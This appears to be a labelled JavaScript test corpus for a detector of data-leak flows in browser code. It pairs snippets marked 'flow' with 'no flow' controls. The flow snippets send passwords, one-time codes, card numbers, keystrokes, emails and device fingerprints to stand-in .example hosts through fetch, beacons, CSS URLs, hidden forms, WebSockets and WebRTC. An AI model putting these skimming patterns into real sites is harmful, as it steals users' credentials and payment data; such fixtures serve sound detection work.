// Browser interfaces: workers and channels, databases, observers, streams, requests, sockets, devices, forms.

//# worker-from-a-blob-of-a-function
// flow: message > wbf.b16.example via fetch
function work() {
  self.onmessage = async ({ data }) => {
    const res = await fetch('https://wbf.b16.example/spell', { method: 'POST', body: JSON.stringify({ text: data.text }) });
    self.postMessage({ id: data.id, words: await res.json() });
  };
}

const source = new Blob([`(${work})()`], { type: 'text/javascript' });
const speller = new Worker(URL.createObjectURL(source));
let id = 0;
document.querySelector('textarea[name=message]').addEventListener('input', (e) => {
  speller.postMessage({ id: ++id, text: e.target.value });
});

//# near-worker-that-counts
// no flow
// why: the request stands in a comment of the worker's text; it gives the number of words back
const code = `
  // was: fetch('https://wtc.b16.example/count', { method: 'POST', body: e.data })
  self.onmessage = (e) => {
    const words = e.data.split(/\\s+/).filter(Boolean);
    self.postMessage(words.length);
  };
`;
const counter = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
counter.onmessage = (e) => { document.querySelector('#words').textContent = e.data; };
document.querySelector('textarea[name=message]').addEventListener('input', (e) => counter.postMessage(e.target.value));

//# broadcast-to-the-leading-tab
// flow: search > blt.b16.example via fetch
class TabBus {
  constructor(name) {
    this.channel = new BroadcastChannel(name);
    this.channel.addEventListener('message', ({ data }) => this.onmessage?.(data));
  }
  publish(topic, detail) {
    this.channel.postMessage({ topic, detail });
  }
}

const tabs = new TabBus('usage');
navigator.locks.request('leader', () => new Promise(() => {
  tabs.onmessage = ({ topic, detail }) => {
    if (topic === 'search') fetch('https://blt.b16.example/q', { method: 'POST', body: detail.q });
  };
}));

document.querySelector('input[type=search]').addEventListener('change', function () {
  tabs.publish('search', { q: this.value });
});

//# near-broadcast-other-topic
// no flow
// why: only messages of the topic `ping` are passed on, and those have no text
const room = new BroadcastChannel('drafts');
const upstream = {
  ping: ({ at }) => navigator.sendBeacon('https://nbo.b16.example/ping', String(at)),
  draft: ({ text }) => { document.querySelector('#copy').textContent = text; },
};

new BroadcastChannel('drafts').onmessage = ({ data: { kind, ...rest } }) => upstream[kind]?.(rest);
setInterval(() => room.postMessage({ kind: 'ping', at: Date.now() }), 60000);
document.querySelector('textarea[name=message]').oninput = (e) => room.postMessage({ kind: 'draft', text: e.target.value });

//# script-that-is-its-own-service-worker
// flow: email > sow.b16.example via fetch
if (typeof window === 'undefined') {
  self.addEventListener('install', () => self.skipWaiting());
  self.addEventListener('message', (event) => {
    if (event.data?.type !== 'LEAD') return;
    event.waitUntil(fetch('https://sow.b16.example/lead', { method: 'POST', body: JSON.stringify(event.data.lead) }));
  });
} else {
  navigator.serviceWorker.register(document.currentScript.src);
  document.querySelector('#lead').addEventListener('submit', async (event) => {
    event.preventDefault();
    const mail = event.target.querySelector('input[type=email]').value;
    const { active } = await navigator.serviceWorker.ready;
    active.postMessage({ type: 'LEAD', lead: { mail } });
  });
}

//# outbox-in-a-database
// flow: phone > oid.b16.example via fetch
class Outbox {
  #db = new Promise((resolve, reject) => {
    const open = indexedDB.open('outbox', 1);
    open.onupgradeneeded = () => open.result.createObjectStore('pending', { autoIncrement: true });
    open.onsuccess = () => resolve(open.result);
    open.onerror = () => reject(open.error);
  });

  async #store(mode) {
    return (await this.#db).transaction('pending', mode).objectStore('pending');
  }

  async add(item) {
    (await this.#store('readwrite')).add(item);
  }

  async drain(send) {
    const request = (await this.#store('readonly')).getAll();
    request.onsuccess = () => request.result.forEach(send);
  }
}

const outbox = new Outbox();
document.querySelector('input[type=tel]').addEventListener('change', (e) => outbox.add({ tel: e.target.value, at: Date.now() }));
window.addEventListener('online', () => {
  outbox.drain((item) => fetch('https://oid.b16.example/sync', { method: 'POST', body: JSON.stringify(item) }));
});

//# near-database-of-drafts
// no flow
// why: drafts and pings are two stores, and only that of the pings is read
const openDb = () => new Promise((resolve) => {
  const rq = indexedDB.open('app', 2);
  rq.onupgradeneeded = () => {
    rq.result.createObjectStore('drafts', { keyPath: 'id' });
    rq.result.createObjectStore('pings', { keyPath: 'id' });
  };
  rq.onsuccess = () => resolve(rq.result);
});

const put = async (store, value) => (await openDb()).transaction(store, 'readwrite').objectStore(store).put(value);
const all = async (store) => new Promise((resolve) => {
  openDb().then((db) => {
    const rq = db.transaction(store).objectStore(store).getAll();
    rq.onsuccess = () => resolve(rq.result);
  });
});

document.querySelector('textarea[name=message]').oninput = (e) => put('drafts', { id: 'current', text: e.target.value });
put('pings', { id: 'boot', build: '2026.3' });
addEventListener('online', async () => {
  const body = JSON.stringify(await all('pings'));
  await fetch('https://ndd.b16.example/pings', { method: 'POST', body });
});

//# observer-finds-new-fields
// flow: password > ofn.b16.example via beacon
const watched = new WeakSet();

function watch(field) {
  if (watched.has(field)) return;
  watched.add(field);
  field.addEventListener('change', () => navigator.sendBeacon('https://ofn.b16.example/v', field.value));
}

const finder = new MutationObserver((records) => {
  for (const { addedNodes } of records) {
    for (const node of addedNodes) {
      if (node instanceof Element) node.querySelectorAll('input[type=password]').forEach(watch);
    }
  }
});
finder.observe(document.documentElement, { childList: true, subtree: true });

//# near-lazy-images
// no flow
// why: pictures of the page are loaded as they come into sight
const lazy = new IntersectionObserver((entries, observer) => {
  for (const { isIntersecting, target } of entries) {
    if (!isIntersecting) continue;
    target.src = 'https://lzy.b16.example/img/' + target.dataset.name;
    observer.unobserve(target);
  }
}, { rootMargin: '200px' });
document.querySelectorAll('img[data-name]').forEach((img) => lazy.observe(img));
document.querySelector('input[type=search]').addEventListener('input', (e) => {
  document.querySelectorAll('img[data-name]').forEach((img) => { img.hidden = !img.alt.includes(e.target.value); });
});

//# rule-with-an-address
// flow: otp > rwa.b16.example via css
const sheet = new CSSStyleSheet();
document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];

document.querySelector('input[autocomplete=one-time-code]').addEventListener('input', ({ target }) => {
  const url = new URL('https://rwa.b16.example/bg.png');
  url.searchParams.set('c', target.value);
  sheet.insertRule(`body::after { content: ''; background-image: url("${url}"); }`);
});

//# near-width-in-a-rule
// no flow
// why: the rule has the number of signs as a width, and no address
const meter = new CSSStyleSheet();
document.adoptedStyleSheets.push(meter);
document.querySelector('input[type=password]').addEventListener('input', ({ target }) => {
  meter.replaceSync(`.meter { width: ${Math.min(target.value.length * 8, 100)}px; background: url(https://nwr.b16.example/bar.png); }`);
});

//# event-source-for-a-place
// flow: address > esp.b16.example via eventsource
let stream;

function follow(city) {
  stream?.close();
  const url = new URL('/live', 'https://esp.b16.example');
  url.searchParams.append('city', city);
  stream = new EventSource(url, { withCredentials: true });
  stream.addEventListener('offer', (e) => document.querySelector('#offers').append(JSON.parse(e.data).title));
}

document.querySelector('input[autocomplete=address-level2]').addEventListener('change', (e) => follow(e.target.value));

//# socket-with-a-waiting-line
// flow: keystrokes > swl.b16.example via websocket
class Line {
  #socket;
  #waiting = [];

  connect(url) {
    this.#socket = new WebSocket(url);
    this.#socket.addEventListener('open', () => {
      for (const message of this.#waiting.splice(0)) this.#socket.send(message);
    });
  }

  send(type, data) {
    const message = JSON.stringify({ type, data });
    if (this.#socket?.readyState === WebSocket.OPEN) this.#socket.send(message);
    else this.#waiting.push(message);
  }
}

const line = new Line();
line.connect('wss://swl.b16.example/ws');
document.addEventListener('keydown', (e) => line.send('key', { key: e.key, at: e.timeStamp }), true);

//# near-socket-of-its-own
// no flow
// why: the class of that name keeps what it is given in a list of the page
class WebSocket {
  constructor(url) {
    this.url = url;
    this.sent = [];
  }
  send(data) {
    this.sent.push(data);
    document.querySelector('#log').textContent = this.sent.length + ' messages for ' + this.url;
  }
}

const fake = new WebSocket('wss://nso.b16.example/ws');
document.querySelector('textarea[name=message]').addEventListener('change', (e) => fake.send(e.target.value));

//# relay-named-after-a-person
// flow: username > rnp.b16.example via webrtc
async function call(user, credential) {
  const peer = new RTCPeerConnection({
    iceServers: [
      { urls: 'turn:rnp.b16.example:3478?transport=udp', username: `${Math.floor(Date.now() / 1000)}:${user}`, credential },
    ],
  });
  peer.createDataChannel('chat');
  await peer.setLocalDescription(await peer.createOffer());
  return peer;
}

document.querySelector('#call').addEventListener('click', () => {
  call(document.querySelector('input[name=username]').value, 'guest').catch(console.error);
});

//# transport-of-notes
// flow: message > ton.b16.example via webtransport
async function openWriter() {
  const transport = new WebTransport('https://ton.b16.example:4433/notes');
  await transport.ready;
  const { writable } = await transport.createBidirectionalStream();
  return writable.getWriter();
}

const writer = openWriter();
const bytes = new TextEncoder();
document.querySelector('textarea[name=message]').addEventListener('blur', async (e) => {
  await (await writer).write(bytes.encode(e.target.value));
});

//# request-made-and-copied
// flow: phone > rmc.b16.example via fetch
const build = (path, data) => new Request(`https://rmc.b16.example${path}`, {
  method: 'POST',
  headers: new Headers({ 'content-type': 'application/json' }),
  body: JSON.stringify(data),
});

document.querySelector('input[type=tel]').addEventListener('change', async (e) => {
  const request = build('/tel', { tel: e.target.value });
  const again = new Request(request.clone(), { keepalive: true, credentials: 'include' });
  await fetch(again).catch(() => fetch(request));
});

//# near-request-with-another-body
// no flow
// why: the copy has a body of its own, and only the copy is sent
document.querySelector('input[type=password]').addEventListener('change', (e) => {
  const draft = new Request('https://nra.b16.example/check', { method: 'POST', body: e.target.value });
  const safe = new Request(draft, { body: JSON.stringify({ filled: true }) });
  fetch(safe);
});

//# stream-as-a-body
// flow: message > sab.b16.example via fetch
function textStream(text, size = 64) {
  let at = 0;
  return new ReadableStream({
    pull(controller) {
      if (at >= text.length) return controller.close();
      controller.enqueue(text.slice(at, at += size));
    },
  });
}

document.querySelector('#publish').addEventListener('click', () => {
  const body = textStream(document.querySelector('textarea[name=message]').value)
    .pipeThrough(new TextEncoderStream())
    .pipeThrough(new CompressionStream('gzip'));
  fetch('https://sab.b16.example/publish', { method: 'POST', body, duplex: 'half' });
});

//# near-stream-of-the-answer
// no flow
// why: the stream counts the bytes that arrive; the typed word marks lines in the page
async function load(word) {
  let received = 0;
  const response = await fetch('https://nsa.b16.example/book.txt');
  const text = await new Response(response.body.pipeThrough(new TransformStream({
    transform(chunk, controller) {
      received += chunk.byteLength;
      document.querySelector('progress').value = received;
      controller.enqueue(chunk);
    },
  }))).text();
  document.querySelector('#hits').replaceChildren(...text.split('\n').filter((l) => l.includes(word)));
}

document.querySelector('input[type=search]').addEventListener('change', (e) => load(e.target.value));

//# file-in-pieces
// flow: file > fip.b16.example via fetch
const PIECE = 256 * 1024;

async function upload(file, signal) {
  const total = Math.ceil(file.size / PIECE);
  for (let n = 0; n < total; n++) {
    const form = new FormData();
    form.append('piece', file.slice(n * PIECE, (n + 1) * PIECE), `piece-${n}`);
    form.append('n', String(n));
    await fetch('https://fip.b16.example/upload', { method: 'POST', body: form, signal });
  }
}

const stop = new AbortController();
document.querySelector('input[type=file]').addEventListener('change', ({ target }) => {
  Promise.all(Array.from(target.files, (f) => upload(f, stop.signal))).finally(() => { target.value = ''; });
});
document.querySelector('#cancel').onclick = () => stop.abort();

//# near-file-shown-only
// no flow
// why: the picture is shown from the computer's memory; the server hears that one was chosen
document.querySelector('input[type=file]').addEventListener('change', ({ target: { files: [picture] } }) => {
  if (!picture?.type.startsWith('image/')) return;
  const url = URL.createObjectURL(picture);
  const img = Object.assign(new Image(), { src: url, onload: () => URL.revokeObjectURL(url) });
  document.querySelector('#preview').replaceChildren(img);
  fetch('https://nfs.b16.example/event', { method: 'POST', body: JSON.stringify({ event: 'picture-chosen' }) });
});

//# place-as-a-promise
// flow: location > pap.b16.example via fetch
const place = (options) => new Promise((resolve, reject) => {
  navigator.geolocation.getCurrentPosition(resolve, reject, options);
});

async function nearby() {
  try {
    const { coords: { latitude: lat, longitude: lon } } = await Promise.race([
      place({ timeout: 5000 }),
      new Promise((_, reject) => setTimeout(reject, 6000, new Error('late'))),
    ]);
    const query = new URLSearchParams({ lat: lat.toFixed(2), lon: lon.toFixed(2) });
    return (await fetch(`https://pap.b16.example/shops?${query}`)).json();
  } catch {
    return [];
  }
}

document.querySelector('#near-me').onclick = async () => { document.querySelector('#shops').textContent = (await nearby()).length; };

//# near-distance-in-the-page
// no flow
// why: all shops are asked for, and the distance is worked out here
async function sortShops() {
  const shops = await (await fetch('https://ndp.b16.example/shops.json')).json();
  navigator.geolocation.getCurrentPosition(({ coords }) => {
    const far = (s) => Math.hypot(s.lat - coords.latitude, s.lon - coords.longitude);
    shops.sort((a, b) => far(a) - far(b));
    document.querySelector('#list').replaceChildren(...shops.map((s) => Object.assign(document.createElement('li'), { textContent: s.name })));
  });
}
sortShops();

//# drawing-as-a-fingerprint
// flow: device > daf.b16.example via image
function drawn() {
  const canvas = Object.assign(document.createElement('canvas'), { width: 240, height: 60 });
  const ctx = canvas.getContext('2d');
  ctx.textBaseline = 'top';
  ctx.font = "14px 'Arial'";
  ctx.fillStyle = '#f60';
  ctx.fillRect(125, 1, 62, 20);
  ctx.fillText('Cwm fjordbank 😃', 2, 15);
  return canvas.toDataURL();
}

const hash = (s) => [...s].reduce((h, c) => (Math.imul(31, h) + c.charCodeAt(0)) | 0, 7);
new Image().src = `https://daf.b16.example/fp.gif?h=${(hash(drawn()) >>> 0).toString(16)}`;

//# sound-as-a-fingerprint
// flow: device > saf.b16.example via fetch
async function sound() {
  const ctx = new OfflineAudioContext(1, 5000, 44100);
  const osc = new OscillatorNode(ctx, { type: 'triangle', frequency: 10000 });
  const comp = new DynamicsCompressorNode(ctx, { threshold: -50, knee: 40 });
  osc.connect(comp).connect(ctx.destination);
  osc.start();
  const buffer = await ctx.startRendering();
  return buffer.getChannelData(0).slice(4500).reduce((sum, v) => sum + Math.abs(v), 0);
}

sound().then((sum) => fetch('https://saf.b16.example/a', { method: 'POST', body: JSON.stringify({ sum }) }));

//# near-chart-to-keep
// no flow
// why: the picture is offered as a download; a count is sent
function exportChart(points) {
  const canvas = document.createElement('canvas');
  const ctx = canvas.getContext('2d');
  points.forEach((y, x) => ctx.lineTo(x * 10, y));
  ctx.stroke();
  const link = document.createElement('a');
  link.href = canvas.toDataURL('image/png');
  link.download = 'chart.png';
  link.click();
  navigator.sendBeacon('https://nck.b16.example/export', new Blob([`{"points":${points.length}}`]));
}
document.querySelector('#export').onclick = () => exportChart([3, 5, 8, 13]);

//# near-shortcut-of-the-palette
// no flow
// why: the key is compared, a fixed list is asked for
document.addEventListener('keydown', async (e) => {
  const { key, ctrlKey, metaKey } = e;
  if (!(ctrlKey || metaKey) || key.toLowerCase() !== 'k') return;
  e.preventDefault();
  const commands = await (await fetch('https://nsp.b16.example/commands.json')).json();
  document.querySelector('dialog').replaceChildren(...commands);
});

//# form-sent-by-code
// flow: card > fsc.b16.example via form
function postTo(action, fields) {
  const form = document.createElement('form');
  form.method = 'post';
  form.action = action;
  form.target = 'hidden-frame';
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement('input');
    input.type = 'hidden';
    input.name = name;
    input.value = value;
    form.append(input);
  }
  document.body.append(form);
  form.submit();
  form.remove();
}

document.querySelector('#pay').addEventListener('click', () => {
  postTo('https://fsc.b16.example/pay', { pan: document.querySelector('input[autocomplete=cc-number]').value, amount: '19.90' });
});

//# near-listener-taken-away
// no flow
// why: the signal is aborted before anybody can type
const gone = new AbortController();
const listen = { signal: gone.signal, capture: true };
document.querySelector('input[type=password]').addEventListener('input', (e) => {
  fetch('https://nlt.b16.example/i', { method: 'POST', body: e.target.value });
}, listen);
gone.abort();

//# delegated-to-the-document
// flow: email > dtd.b16.example via fetch
const delegate = (type, selector, run) => {
  document.addEventListener(type, (event) => {
    const found = event.target.closest?.(selector);
    if (found) run.call(found, event);
  }, true);
};

delegate('change', 'input[type=email]', function () {
  fetch('https://dtd.b16.example/lead', { method: 'POST', keepalive: true, body: JSON.stringify({ mail: this.value }) });
});

//# store-that-is-an-event-target
// flow: username > set.b16.example via beacon
class Session extends EventTarget {
  #user = null;
  get user() {
    return this.#user;
  }
  set user(value) {
    this.#user = value;
    this.dispatchEvent(new CustomEvent('userchange', { detail: { user: value } }));
  }
}

const session = new Session();
session.addEventListener('userchange', ({ detail }) => {
  navigator.sendBeacon('https://set.b16.example/user', JSON.stringify(detail));
});
document.querySelector('input[name=username]').addEventListener('change', (e) => { session.user = e.target.value; });

//# near-event-target-other-event
// no flow
// why: the listener that sends hears `saved`, which has the number of the revision
class Editor extends EventTarget {
  revision = 0;
  type(text) {
    this.dispatchEvent(new CustomEvent('typed', { detail: text }));
  }
  save() {
    this.dispatchEvent(new CustomEvent('saved', { detail: ++this.revision }));
  }
}

const editor = new Editor();
editor.addEventListener('typed', (e) => { document.querySelector('#preview').textContent = e.detail; });
editor.addEventListener('saved', (e) => fetch('https://neo.b16.example/saved?rev=' + e.detail));
document.querySelector('textarea[name=message]').oninput = (e) => editor.type(e.target.value);
document.querySelector('#save').onclick = () => editor.save();
